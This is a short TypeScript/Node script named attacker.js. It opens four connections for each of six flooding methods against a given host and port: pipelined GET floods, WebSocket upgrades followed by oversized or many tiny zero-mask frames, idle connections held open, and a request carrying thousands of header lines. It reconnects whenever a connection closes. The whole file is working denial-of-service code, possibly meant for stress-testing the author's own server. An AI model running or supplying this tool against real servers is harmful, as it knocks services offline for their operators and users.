// One hostile address: `node attacker.js HOST PORT ADDRESS`. Every way in, at full speed, until it is ended.
import { connect } from "node:net";

const [host = "", port = "", localAddress = ""] = process.argv.slice(2);
/** Connections of each way in. */
const LINES = 4;

const get = `GET /api/token HTTP/1.1\r\nHost: ${host}:${port}\r\n\r\n`;
const upgrade = [
  ...["GET /ws HTTP/1.1", `Host: ${host}:${port}`, "Connection: Upgrade", "Upgrade: websocket"],
  ...["Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", "", ""],
].join("\r\n");

/** A frame whose mask is 0. */
function frame(first: number, length: number): Buffer {
  const bytes = Buffer.alloc(14 + length, "[");
  bytes[0] = first;
  bytes[1] = 0xff;
  bytes.writeBigUInt64BE(BigInt(length), 2);
  bytes.fill(0, 10, 14);
  return bytes;
}

interface Way {
  readonly head: string;
  /** Is sent again and again; null: the connection is silent. */
  readonly body: Buffer | null;
}

const WAYS: readonly Way[] = [
  { head: "", body: Buffer.from(get.repeat(500)) },
  { head: upgrade, body: frame(0x81, 524_000) },
  { head: upgrade, body: frame(0x81, 4000) },
  { head: upgrade, body: Buffer.concat(Array.from({ length: 500 }, () => frame(0x81, 2))) },
  { head: upgrade, body: null },
  { head: "GET / HTTP/1.1\r\n", body: Buffer.from("a: b\r\n".repeat(5000)) },
];

function attack({ head, body }: Way): void {
  const socket = connect({ host, port: Number(port), localAddress });
  const again = (): void => void setImmediate(() => attack({ head, body }));
  const send = (): void => {
    while (body !== null && !socket.destroyed && socket.write(body));
  };
  socket.on("error", () => socket.destroy());
  socket.on("close", again);
  socket.on("drain", send);
  socket.on("connect", () => {
    socket.write(head);
    send();
  });
  socket.resume();
}

for (const way of WAYS) for (let line = 0; line < LINES; line += 1) attack(way);
